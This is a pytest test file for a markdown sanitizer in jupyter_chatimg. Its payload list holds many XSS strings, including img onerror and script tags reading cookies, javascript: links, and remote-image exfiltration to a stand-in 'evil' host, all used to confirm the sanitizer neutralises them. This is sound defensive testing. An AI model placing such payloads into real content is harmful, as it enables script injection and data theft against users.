"""Model output is data: jupyter_chatimg._markdown finds images and makes markdown safe.

The honest check is what a browser would get: outputs are rendered with
markdown-it (CommonMark + tables, raw HTML on, as a trusting front end does) and
with JupyterLab's own pre-step (``removeMath``, which cuts math out before the
markdown parser runs) emulated, and the HTML is parsed for anything active.
"""

from __future__ import annotations

import itertools
import json
import random
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from jupyter_chatimg._markdown import (
    MarkdownImage,
    _math_chunks,
    find_markdown_images,
    image_urls_in_markdown,
    safe_markdown,
)

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "wire"

# -------------------------------------------------------------------- checking

_ALLOWED_TAGS = {
    *("p", "em", "strong", "code", "pre", "a", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("ul", "ol", "li", "blockquote", "hr", "br", "del", "input"),
    *("table", "thead", "tbody", "tr", "th", "td"),
    *("div", "span", "dl", "dt", "dd"),  # nbconvert: highlighted code, definition lists
}
_LOADING_ATTRS = {"src", "srcset", "style", "background", "poster", "formaction", "action", "data"}
_MACRO = re.compile(r"\\(?:style|class|cssId|href|data|require|bbox|unicode)(?![A-Za-z])")


class _Checker(HTMLParser):
    """Collects every active thing in rendered HTML: tags, attributes, links, macros."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_code = 0
        self.markup: list[str] = []  # the tags as written, text left out

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.markup.append(self.get_starttag_text() or "")
        if tag not in _ALLOWED_TAGS:
            self.problems.append(f"<{tag}>")
        if tag in ("code", "pre"):
            self.in_code += 1
        for name, value in attrs:
            value = value or ""
            aligned = tag in ("th", "td") and re.fullmatch(r"text-align:(left|center|right)", value)
            if name.startswith("on") or (name in _LOADING_ATTRS and not aligned):
                self.problems.append(f"{name}={value!r}")
            if name == "href":
                bare = re.sub(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\ufeff]", "", value).lower()
                scheme = re.match(r"[a-z][a-z0-9+.\-]*:", bare)
                if scheme and scheme.group() not in ("http:", "https:", "mailto:", "tel:", "ftp:"):
                    self.problems.append(f"href={value!r}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag in ("code", "pre"):
            self.in_code -= 1

    def handle_endtag(self, tag: str) -> None:
        if tag in ("code", "pre"):
            self.in_code -= 1

    def handle_data(self, data: str) -> None:
        if self.in_code <= 0 and _MACRO.search(data):
            self.problems.append("MathJax macro " + _MACRO.search(data).group())  # type: ignore[union-attr]

    def handle_comment(self, data: str) -> None:
        self.problems.append("<!--")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("<!decl")

    def handle_pi(self, data: str) -> None:
        self.problems.append("<?pi")

    def unknown_decl(self, data: str) -> None:
        self.problems.append("<![CDATA[")


def _problems(html: str) -> tuple[list[str], str]:
    """What is active in ``html``, and its markup (tags only, escaped text left out)."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems, "".join(checker.markup)


# JupyterLab's removeMath (packages/rendermime/src/latex.ts), reproduced to test
# against: math is cut out before markdown and pasted back, escaped, afterwards.
_MATHSPLIT = re.compile(
    r"(\$\$?|\\(?:begin|end)\{[a-z]*\*?\}|\\[{}$]|[{}]|(?:\n\s*)+|@@\d+@@|\\\\(?:\(|\)|\[|\]))",
    re.IGNORECASE,
)


def _jupyterlab_remove_math(text: str) -> tuple[str, list[str]]:
    math: list[str] = []
    if "`" in text or "~~~" in text:
        text = text.replace("~", "~T")
        text = re.sub(
            r"^(`{3,}|(?:~T){3,})[^`\n]*\n[\s\S]*?^\1`*$",
            lambda m: m.group().replace("$", "~D"),
            text,
            flags=re.M,
        )
        text = re.sub(
            r"(^|[^\\])(`+)([^\n]*?[^`\n])\2(?!`)",
            lambda m: m.group().replace("$", "~D"),
            text,
            flags=re.M,
        )

        def detilde(s: str) -> str:
            return re.sub(r"~([TD])", lambda m: "~" if m.group(1) == "T" else "$", s)
    else:

        def detilde(s: str) -> str:
            return s

    blocks = _MATHSPLIT.split(text)
    start = end = last = None
    braces = 0

    def process(i: int, j: int) -> None:
        block = "".join(blocks[i : j + 1])
        block = block.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        for k in range(i + 1, j + 1):
            blocks[k] = ""
        blocks[i] = f"@@{len(math)}@@"
        math.append(detilde(block))

    i = 1
    while i < len(blocks):
        block = blocks[i]
        if block[:1] == "@":
            blocks[i] = f"@@{len(math)}@@"
            math.append(block)
        elif start is not None:
            if block == end:
                if braces:
                    last = i
                else:
                    process(start, i)
                    start = end = last = None
            elif re.search(r"\n.*\n", block):
                if last is not None:
                    i = last
                    process(start, i)
                start = end = last = None
                braces = 0
            elif block == "{":
                braces += 1
            elif block == "}" and braces:
                braces -= 1
        elif block in ("$", "$$"):
            start, end, braces = i, block, 0
        elif block in ("\\\\(", "\\\\["):
            start, braces = i, 0
            end = "\\\\)" if block[-1] == "(" else "\\\\]"
        elif block[1:6] == "begin":
            start, braces = i, 0
            end = "\\end" + block[6:]
        i += 2
    if start is not None and last is not None:
        process(start, last)
    return detilde("".join(blocks)), math


def _renderings(markdown: str) -> dict[str, str]:
    """HTML from markdown-it, alone and behind JupyterLab's math step, and nbconvert's."""
    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    text, math = _jupyterlab_remove_math(markdown)
    jl = re.sub(r"@@(\d+)@@", lambda m: math[int(m.group(1))], md.render(text))
    out = {"markdown-it": md.render(markdown), "jupyterlab-math+markdown-it": jl}
    try:  # what "jupyter nbconvert --to html" makes of a saved notebook's output
        from nbconvert.filters.markdown_mistune import markdown2html_mistune
    except ImportError:
        return out
    out["nbconvert"] = markdown2html_mistune(markdown)
    return out


def _tokens_outside_code(markdown: str) -> list[str]:
    """Images, raw HTML and dangerous links that markdown-it finds outside code."""
    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    found: list[str] = []
    stack = list(md.parse(markdown))
    while stack:
        tok = stack.pop()
        stack.extend(tok.children or [])
        if tok.type in ("image", "html_inline", "html_block"):
            found.append(f"{tok.type}: {tok.content or tok.attrGet('src')}")
        href = str(tok.attrGet("href") or "")
        if tok.type == "link_open" and re.match(r"\s*(javascript|vbscript|data|file):", href, re.I):
            found.append(f"link: {href}")
    return found


def assert_inert(markdown: str) -> None:
    """Nothing that runs, loads or links to a dangerous scheme, in any rendering."""
    assert _tokens_outside_code(markdown) == [], markdown
    for name, html in _renderings(markdown).items():
        problems, markup = _problems(html)
        # text may well say "onerror" (escaped, as text); the markup may not
        lowered = markup.lower()
        for needle in (
            "<img",
            "<script",
            "onerror",
            "<iframe",
            "<svg",
            'href="javascript:',
            "src=",
        ):
            assert needle not in lowered, (name, needle, markdown, html)
        assert problems == [], (name, problems, markdown, html)


# -------------------------------------------------------------------- payloads

PAYLOADS = {
    "img onerror": "look <img src=x onerror=alert(1)> here",
    "script": "<script>alert(document.cookie)</script>",
    "svg onload": "<svg onload=alert(1)>",
    "iframe": '<iframe src="http://evil/"></iframe>',
    "a href javascript": '<a href="javascript:alert(1)" target="_self">click</a>',
    "md link javascript": "[x](javascript:alert(1))",
    "md link mixed case": "[x](JaVaScRiPt:alert(1))",
    "md link leading space": "[x]( javascript:alert(1))",
    "md link entity": "[x](java&#x73;cript:alert(1))",
    "md link named entity colon": "[x](javascript&colon;alert(1))",
    "md link escape": "[x](javascript\\:alert(1))",
    "md link angle tab": "[x](<java\tscript:alert(1)>)",
    "md link vbscript": "[x](vbscript:msgbox(1))",
    "md link data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md link file": "[x](file:///etc/passwd)",
    "autolink javascript": "<javascript:alert(1)>",
    "remote image": "![x](http://evil/?q=secret)",
    "reference image": "![x][r]\n\n[r]: http://evil/x.png",
    "collapsed reference image": "![r][]\n\n[R]: http://evil/x.png",
    "shortcut reference image": "![r]\n\n[r]: http://evil/x.png",
    "reference link javascript": "[x][r]\n\n[r]: javascript:alert(1)",
    "angle image with title": '![x](<http://evil/a b.png> "t")',
    "linked image": "[![x](http://evil/a.png)](https://example.com)",
    "nested brackets alt": "![a [b] c](http://evil/a.png)",
    "html comment": "<!-- <img src=x onerror=alert(1)> -->",
    "comment trick": "<!--> <img src=x onerror=alert(1)> -->",
    "style": "<style>body{background:url(http://evil/)}</style>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "tag over lines": "<img\nsrc=x\nonerror=alert(1)>",
    "attribute with backticks": "<img src=`x` onerror=`alert(1)`>",
    "html block in list": "- item\n<div><img src=x onerror=alert(1)></div>",
    "dangling tag start": "text <im",
    "unfinished image": "![x](http://evil/?q=sec",
    "mathjax style": "$\\style{background:url(http://evil/)}{x}$",
    "mathjax href": "$\\href{javascript:alert(1)}{x}$",
    "mathjax via entity": "$&#92;style{background:url(http://evil/)}{x}$",
    # JupyterLab cuts math out before markdown: this code span is not one there
    "math splits code span": "\\begin{x} `\\end{x} <img src=x onerror=alert(1)>`",
    "math splits fence": "\\begin{x}\n```\n\\end{x}\n<img src=x onerror=alert(1)>\n```",
    # ... and pastes it back unescaped for quotes: inside a title it breaks out
    "math in link title": '[x](http://a "$" onmouseover="alert(1)$")',
    "math in fence info": '```$" onmouseover="alert(1)$\ncode\n```',
    # nbconvert's math step ignores code: "$...$" may cut a span or a fence
    "nbconvert math over code span": "a $b `c$ <img src=x onerror=alert(1)>` d",
    "nbconvert math over fence": "$$\n```\n$$\n<img src=x onerror=alert(1)>\n```",
    # marked (JupyterLab's parser) quirks
    "marked del splits code": "~~a `b~~ <img src=x onerror=alert(1)>`",
    "marked em over double backticks": "*a ``b* <img src=x onerror=alert(1)>`` c",
    "marked url eats backtick": "www.x.com` <img src=x onerror=alert(1)>`",
    "code span over lines in list": "- a\n`b\n<img src=x onerror=alert(1)>`",
    "table splits code span": "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)>` | y |",
    "escaped bang then image": "\\\\![x](http://evil/a.png)",
    "image after bang": "!![x](a)(http://evil/?q=1)",
}


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_payload_is_inert(payload: str) -> None:
    out = safe_markdown(payload)
    assert_inert(out)
    assert safe_markdown(out) == out  # settled: a second pass changes nothing


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_payload_is_inert_as_it_streams(payload: str) -> None:
    for cut in range(1, len(payload) + 1):
        assert_inert(safe_markdown(payload[:cut]))


def test_image_replaced_by_label() -> None:
    seen: list[str] = []

    def label(url: str) -> str:
        seen.append(url)
        return "*[image 1]*"

    out = safe_markdown("Here: ![kite](https://cdn.example.com/k.png) done.", image_label=label)
    assert out == "Here: *[image 1]* done."
    assert seen == ["https://cdn.example.com/k.png"]


def test_image_without_label_shows_alt() -> None:
    out = safe_markdown("a ![kite *over* dunes](http://e/k.png) b", image_label=lambda u: None)
    assert "http://e/k.png" not in out
    html = _renderings(out)["markdown-it"]
    assert "[image: kite *over* dunes]" in html
    assert safe_markdown("![](http://e/k.png)") == "\\[image\\]"


def test_reference_image_and_definition() -> None:
    out = safe_markdown("![x][R]\n\n[r]: http://evil/x.png 'title'", image_label=lambda u: "IMG")
    assert out.startswith("IMG\n")
    assert_inert(out)


def test_dangerous_link_keeps_its_text() -> None:
    out = safe_markdown("see [the **docs**](javascript:alert(1)) now")
    assert "javascript" not in _renderings(out)["markdown-it"].split("see", 1)[1].split("now")[0]
    assert "<a" not in _renderings(out)["markdown-it"]
    assert "the" in out and "docs" in out


# ------------------------------------------------------------- what stays

CODE_KEPT = {
    "code span with tag": "`<img src=x onerror=alert(1)>`",
    "code span a<b": "use `a<b` here",
    "fenced html": "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "tilde fence": "~~~\n<iframe src=x></iframe>\n~~~",
    "nested backtick runs": "`` a ` <b> ` c ``",
    "unclosed fence at end": "text\n\n```js\nlet a = b < c;\nel.innerHTML = '<img src=x>';",
    "fence in a list item": '1. Save this:\n   ```html\n   <div onclick="go()">hi</div>\n   ```\n2. Open it.',
    "image syntax in code": "`![x](http://e/x.png)` and\n\n```\n![y](http://e/y.png)\n```",
}


@pytest.mark.parametrize("text", list(CODE_KEPT.values()), ids=list(CODE_KEPT))
def test_code_is_left_byte_for_byte(text: str) -> None:
    assert safe_markdown(text) == text
    assert_inert(text)  # and it was harmless as code all along


LEGIT = [
    "# Title\n\n## Sub\n\nSome **bold**, *italic* and `code`.",
    "- one\n- two\n  - nested\n\n1. first\n2. second",
    "| a | b |\n|---|:-:|\n| 1 | 2 |",
    "A [link](https://example.com/a?b=c#d) and [mail](mailto:a@example.com) and [rel](docs/x.md).",
    "Math $x^2 + y_1$ and $$\\sum_{i=1}^n i$$ stays.",
    "> quoted\n> text\n\n---\n\nend",
    "```python\nfor i in range(3):\n    print(i)\n```",
    "Bare URL https://example.com/x stays text.",
    "Escapes \\* and \\_ and 2 < 3 and x <= y.",
    "1. Install:\n   ```bash\n   pip install jupyter-chatimg\n   ```\n2. Run it.",
]


@pytest.mark.parametrize("text", LEGIT)
def test_legit_markdown_survives_exactly(text: str) -> None:
    assert safe_markdown(text) == text


def test_lone_less_than_is_kept_or_escaped_but_renders_the_same() -> None:
    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("commonmark")
    for text in ("a<b and c <d", "x < y", "<3 love", "a <-> b"):
        assert md.render(safe_markdown(text)) == md.render(text.replace("<", "&lt;"))


def test_math_less_than_becomes_tex() -> None:
    assert safe_markdown("$a<b$ and $x < y$") == "$a\\lt b$ and $x < y$"


def test_trust_html_keeps_html_but_not_images_or_dangerous_links() -> None:
    text = "<b>bold</b> ![x](http://evil/a.png) [y](javascript:alert(1)) <i>it</i>"
    out = safe_markdown(text, trust_html=True, image_label=lambda u: "[image 1]")
    assert "<b>bold</b>" in out and "<i>it</i>" in out
    assert "http://evil" not in out and "javascript" not in out


def test_idempotent_on_mixed_text() -> None:
    rng = random.Random(7)
    pieces = [*PAYLOADS.values(), *CODE_KEPT.values(), *LEGIT, "\n", "\n\n", "$", "`", "<"]
    for _ in range(200):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 6)))
        out = safe_markdown(text)
        assert safe_markdown(out) == out, text
        assert_inert(out)


def test_math_chunks_match_jupyterlab() -> None:
    pieces = ["$", "$$", "\\begin{a}", "\\end{a}", "\\BEGIN{a}", "{", "}", "\n", "\n\n", " \n \n"]
    pieces += ["\\$", "`", "``", "```\n", "~~~\n", "\\\\(", "\\\\)", "\\\\[", "x", "@@0@@", "a b"]
    rng = random.Random(3)
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 20)))
        chunks = _math_chunks(text)
        if chunks != sorted(chunks) or any(a[1] > b[0] for a, b in itertools.pairwise(chunks)):
            continue  # "@@0@@" inside math: stored twice, nested
        parts, last = [], 0
        for k, (a, b) in enumerate(chunks):
            parts += [text[last:a], f"@@{k}@@"]
            last = b
        assert "".join([*parts, text[last:]]) == _jupyterlab_remove_math(text)[0], text


def test_line_ends_are_normalised() -> None:
    assert safe_markdown("a\r\nb\rc\u2028d") == "a\nb\nc\nd"


# -------------------------------------------------------------- images found


def test_gateway_fixture_finds_only_the_kite() -> None:
    expected = json.loads((FIXTURES / "expected.json").read_text())
    text = expected["gateway_gpt4o_image_progress.sse"]["final_text"]
    images = find_markdown_images(text)
    assert [i.url for i in images] == expected["gateway_gpt4o_image_progress.sse"]["images"]
    assert images[0].alt == "gen_01fixture"
    assert text[images[0].start : images[0].end].startswith("![gen_01fixture](")
    assert text[images[0].start : images[0].end].endswith("kite-over-dunes.png)")
    assert image_urls_in_markdown(text) == expected["gateway_gpt4o_image_progress.sse"]["images"]


def test_all_image_forms() -> None:
    text = (
        '![a](http://h/1.png) ![b](<http://h/2 b.png> "t") ![c][R] ![d][] ![e]'
        " [link](http://h/no.png) `![code](http://h/no2.png)`\n\n"
        "[r]: http://h/3.png\n[D]: <http://h/4.png>\n[e]: http://h/5.png 'x'\n"
    )
    found = find_markdown_images(text)
    assert [(i.alt, i.url) for i in found] == [
        ("a", "http://h/1.png"),
        ("b", "http://h/2 b.png"),
        ("c", "http://h/3.png"),
        ("d", "http://h/4.png"),
        ("e", "http://h/5.png"),
    ]
    for img in found:
        assert text[img.start] == "!" and text[img.end - 1] in ")]"


def test_nested_brackets_and_linked_image() -> None:
    found = find_markdown_images("[![a [b] c](http://h/i.png)](https://page)")
    assert found == [MarkdownImage(1, 27, "a [b] c", "http://h/i.png")]


def test_images_in_code_are_not_found() -> None:
    text = "```\n![a](http://h/1.png)\n```\n\n    ![b](http://h/2.png)\n\n`![c](http://h/3.png)`"
    assert find_markdown_images(text) == []


def test_offsets_with_crlf() -> None:
    text = "line\r\n\r\n![a](http://h/1.png)"
    (img,) = find_markdown_images(text)
    assert text[img.start : img.end] == "![a](http://h/1.png)"


def test_image_urls_filter_and_dedupe() -> None:
    data = "data:image/png;base64,iVBORw0KGgo="
    text = (
        f"![1](https://h/a.png) ![2](http://h/b.png) ![3]({data}) ![4](https://h/a.png)"
        " ![5](ftp://h/c.png) ![6](data:text/html;base64,PGI+) ![7](/rel.png)"
    )
    assert image_urls_in_markdown(text) == ["https://h/a.png", "http://h/b.png", data]


def test_growing_text_reports_an_image_only_when_complete() -> None:
    full = 'Before ![a (kite)](https://h/x_(1).png "t") after [dl](https://h/d.png)'
    link_end = full.index(" after")
    for cut in range(len(full) + 1):
        found = find_markdown_images(full[:cut])
        if cut < link_end:
            assert found == [], cut
        else:
            assert [i.url for i in found] == ["https://h/x_(1).png"], cut


def test_streamed_data_uri_tail_is_hidden() -> None:
    text = "Result:\n\n![img](data:image/png;base64," + "A" * 5000
    out = safe_markdown(text)
    assert "AAAA" not in out and len(out) < 100
    assert_inert(out)


# -------------------------------------------------------------------- speed


def _mixed_markdown(size: int) -> str:
    parts = [
        "# Heading\n\nSome **bold** text with `code` and a [link](https://example.com).\n\n",
        "- item one\n- item two with $x^2$ math\n\n",
        "```python\nfor i in range(10):\n    print(i < 5)\n```\n\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n",
        "A paragraph with a < b and <b>html</b> and ![img](http://e/x.png).\n\n",
        "> quote with `a<b`\n\n",
        "1. step\n   ```bash\n   pip install x\n   ```\n\n",
    ]
    rng = random.Random(0)
    text = ""
    while len(text) < size:
        text += rng.choice(parts)
    return text


def test_linear_time_on_hostile_input() -> None:
    n = 20_000
    hostile = [
        "[" * n,
        "[" * (n // 2) + "[a](b)" * (n // 12),
        "![a](" * (n // 5),
        "<" * n,
        "`" * n,
        "` ``" * (n // 4),
        "".join("`" * j + " " for j in range(1, 190)),  # JupyterLab's regex backtracks
        "](" * (n // 2),
        "$" + "a\n" * (n // 2),
        "".join("  " * i + "- x\n" for i in range(120)),
        "> " * 2000 + "x",
    ]
    for text in hostile:
        start = time.process_time()
        out = safe_markdown(text)
        assert time.process_time() - start < 5, text[:40]
        assert _tokens_outside_code(out) == []


def test_fully_escaped_fallback_is_inert_and_settled() -> None:
    # backtick runs that make JupyterLab's removeMath regex backtrack for minutes
    text = "$ " + "".join("`" * j + " " for j in range(1, 190)) + "<img src=x> [a](javascript:x) $"
    out = safe_markdown(text)
    assert "`" not in out.replace("\\`", "")
    assert_inert(out)
    assert safe_markdown(out) == out


def test_speed_on_100kb() -> None:
    text = _mixed_markdown(100_000)
    start = time.process_time()
    safe_markdown(text)
    elapsed = time.process_time() - start
    assert elapsed < 5  # about 0.15 s here; the bound catches quadratic blow-ups
